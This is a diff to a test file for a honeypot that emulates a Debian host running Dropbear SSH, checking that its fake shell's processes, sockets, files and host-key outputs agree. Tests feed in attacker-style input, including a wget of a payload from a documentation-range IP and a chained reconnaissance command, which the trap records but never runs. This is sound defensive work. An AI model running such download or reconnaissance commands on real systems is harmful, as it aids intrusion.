@@ -8,14 +8,16 @@ from pathlib import Path
 
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from twisted.conch.ssh.common import NS
 from twisted.conch.ssh.keys import FingerprintFormats
 from twisted.internet.task import Clock
 
-from honeymesh.detection.traps.facts import Connection, Endpoint, NodeFacts
+from honeymesh.detection.traps.facts import Connection, Endpoint, NodeFacts, fingerprint
 from honeymesh.detection.traps.fakefs import MAX_BYTES, MAX_ENTRIES
 from honeymesh.detection.traps.shell import FakeShell, ShellPersona, ShellSession
 from honeymesh.detection.traps.ssh import SshDialogue, SshHostKeys, SshSettings
-from honeymesh.detection.traps.telnet import TelnetDialogue, TelnetSettings
+from honeymesh.detection.traps.ssh_look import dropbear_key_file
+from honeymesh.detection.traps.telnet import REFUSING_CLIENT, TelnetDialogue, TelnetSettings
 
 from .dialogues import WEAK, talk
 
@@ -151,12 +153,20 @@ def test_python_perl_and_missing_tools() -> None:
 
 
 def test_the_motd_and_uname_share_one_source() -> None:
-    sh = shell()
+    """login(1) through pam_motd (the Telnet shell): uname -snrvm, /etc/motd, the last login."""
+    sh = FakeShell(PERSONA, "root", lambda: NOW, connection=ATTACKER, via="telnet")
     first = sh.motd().split("\n")[0]
     assert first == sh.run("uname -snrvm").output
     assert sh.run("uname -a").output == first + " GNU/Linux"
     assert sh.motd().startswith(first + "\n" + sh.run("cat /etc/motd").raw + "Last login: ")
     assert sh.run("cat /proc/version").output.endswith(first.split(" ", 3)[3].rsplit(" ", 1)[0])
+
+
+def test_over_ssh_the_banner_is_dropbears_etc_motd_alone() -> None:
+    """Debian's dropbear has no PAM: no uname line, no last login (measured: 2022.83)."""
+    sh = shell()
+    assert sh.motd() == sh.run("cat /etc/motd").raw
+    assert sh.motd().startswith("\nThe programs included with the Debian GNU/Linux system")
 
 
 def test_the_real_connection_is_shown() -> None:
@@ -190,9 +200,64 @@ def test_the_processor_and_hypervisor_agree_with_the_nic() -> None:
     assert "Hypervisor" not in metal.run("lscpu").output
 
 
-def test_ssh_keygen_fingerprints_the_host_key_it_shows() -> None:
-    out = shell().run("ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub").output
-    assert re.fullmatch(r"256 SHA256:[A-Za-z0-9+/]{43} root@web01 \(ED25519\)", out)
+def test_dropbearkey_prints_the_host_key_it_shows_and_ssh_keygen_cannot_read_it() -> None:
+    """As on Debian 12 with dropbear-bin 2022.83 (its output copied from the real tool)."""
+    sh = shell()
+    key = "/etc/dropbear/dropbear_ed25519_host_key"
+    out = sh.run(f"dropbearkey -y -f {key}; echo $?").output
+    assert re.fullmatch(
+        r"Public key portion is:\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI[A-Za-z0-9+/]{43} "
+        r"root@web01\nFingerprint: SHA256:[A-Za-z0-9+/]{43}\n0",
+        out,
+    )
+    line = out.split("\n")[1]
+    assert out.split("\n")[2] == f"Fingerprint: {fingerprint(line)}"
+    assert sh.run(f"ssh-keygen -lf {key}; echo $?").output == (
+        f"{key} is not a public key file.\n255"
+    )
+    assert sh.run("dropbearkey -y -f /nowhere; echo $?").output == "Failed reading '/nowhere'\n255"
+    assert sh.run("dropbearkey -y -f /etc/passwd; echo $?").output == ("Exited: String too long\n1")
+    assert sh.run("ls -l " + key).output.startswith("-rw------- 1 root root 83 ")
+    user = shell("admin")
+    assert user.run(f"dropbearkey -y -f {key}").output == f"Failed reading '{key}'"
+
+
+def test_the_machine_runs_dropbear_wherever_it_shows_its_ssh_server() -> None:
+    """Processes, sockets, files, programs and accounts all name the SSH persona's server,
+    and nothing names OpenSSH's."""
+    sh = shell()
+    server = FACTS.pid("sshd")
+    ps = sh.run("ps -ef").output
+    assert re.search(rf"^root +{server} +1 .* /usr/sbin/dropbear -EF -p 22 -W 65536$", ps, re.M)
+    session = re.search(rf"^root +(\d+) +{server} .* /usr/sbin/dropbear -EF -p 22 -W 65536 -2 8$",
+                        ps, re.M)  # fmt: skip
+    assert session is not None
+    assert re.search(rf"^root +{sh.pid} +{session.group(1)} .* -bash$", ps, re.M)
+    assert sh.run("netstat -tlnp").output.split("\n")[2:] == [
+        f"tcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN      "
+        f"{server}/dropbear",
+        f"tcp6       0      0 :::22                   :::*                    LISTEN      "
+        f"{server}/dropbear",
+    ]
+    assert f"ESTABLISHED {session.group(1)}/dropbear" in sh.run("netstat -tnp").output
+    ss = sh.run("ss -tlnp").output
+    assert f'users:(("dropbear",pid={server},fd=3))' in ss and "[::]:22" in ss
+    assert sh.run("ls /etc/dropbear").output.split() == [
+        "dropbear_ecdsa_host_key", "dropbear_ed25519_host_key", "dropbear_rsa_host_key", "log",
+        "run",
+    ]  # fmt: skip
+    assert "#DROPBEAR_PORT=22" in sh.run("cat /etc/default/dropbear").output
+    assert (
+        "ExecStart=/usr/sbin/dropbear -EF"
+        in sh.run("cat /lib/systemd/system/dropbear.service").output
+    )
+    assert sh.run("ls -l /usr/sbin/dropbear").output.startswith("-rwxr-xr-x 1 root root 176160 ")
+    recon = sh.run(
+        "ps aux; netstat -tanp; ss -tanp; cat /etc/passwd; ls -R /etc /run /usr/sbin; "
+        "ls /etc/ssh/ssh_host_ed25519_key.pub"
+    ).output
+    assert "sshd" not in recon and "openssh" not in recon.lower()
+    assert "cannot access '/etc/ssh/ssh_host_ed25519_key.pub'" in recon
 
 
 def test_downloads_fail_plausibly_and_are_recorded_never_fetched() -> None:
@@ -210,7 +275,9 @@ def test_downloads_fail_plausibly_and_are_recorded_never_fetched() -> None:
 def test_telnet_records_download_intents_with_the_command() -> None:
     dialogue = TelnetDialogue(TelnetSettings(b"", PERSONA, WEAK), lambda: NOW)
     dialogue.connected(ATTACKER)
-    t = talk(dialogue, b"root\r\n", b"root\r\n", b"wget http://203.0.113.5/b; id\r\n")
+    t = talk(
+        dialogue, *REFUSING_CLIENT, b"root\r\n", b"root\r\n", b"wget http://203.0.113.5/b; id\r\n"
+    )
     (command,) = t.found("trap.command")
     assert command["download_intent"] == ["http://203.0.113.5/b"]
     assert re.search(
@@ -280,7 +347,7 @@ def test_uptime_grows_and_ps_shows_the_facts_pids() -> None:
     now[0] += 3600
     assert open_uptime(sh) - first == 3600
     ps = sh.run("ps aux").output
-    assert re.search(rf"^root +{FACTS.pid('sshd')} .*sshd: /usr/sbin/sshd", ps, re.M)
+    assert re.search(rf"^root +{FACTS.pid('sshd')} .* /usr/sbin/dropbear -EF ", ps, re.M)
     assert re.search(rf"^redis +{FACTS.pid('redis-server')} ", ps, re.M)
 
 
@@ -312,12 +379,14 @@ def test_the_ssh_shell_fingerprints_the_host_key_the_client_was_shown(tmp_path: 
     dialogue = SshDialogue(settings, Clock())
     dialogue.connected(ATTACKER)
     sh = dialogue.new_shell("root")
-    for blob, key in keys.public.items():  # ed25519, rsa (and ecdsa), as OpenSSH names them
+    for blob, key in keys.public.items():  # ed25519, rsa, ecdsa, as Dropbear names them
         kind = blob.decode().removeprefix("ssh-").split("-")[0]
-        shown = sh.run(f"ssh-keygen -lf /etc/ssh/ssh_host_{kind}_key.pub").output.split()[1]
+        path = f"/etc/dropbear/dropbear_{kind}_host_key"
+        said = sh.run(f"dropbearkey -y -f {path}").output.split("\n")
         real = key.fingerprint(FingerprintFormats.SHA256_BASE64)
-        assert shown == "SHA256:" + real.rstrip("=")  # as OpenSSH prints the one it was shown
-        private = sh.run(f"cat /etc/ssh/ssh_host_{kind}_key").output
-        assert private.startswith("-----BEGIN OPENSSH PRIVATE KEY-----")
-        assert key.toString("OPENSSH").decode().split()[1][:40] not in private
+        assert said[2] == "Fingerprint: SHA256:" + real.rstrip("=")  # as the client was shown
+        assert said[1] == f"{key.toString('OPENSSH').decode()} root@web01"
+        # Dropbear's format, made of the public key and the node's facts: never the real secret.
+        private = sh.run(f"cat {path}").raw.encode("latin-1")
+        assert private.startswith(NS(blob)) and private == dropbear_key_file(said[1], FACTS, kind)
     assert "203.0.113.9" in sh.run("who").output
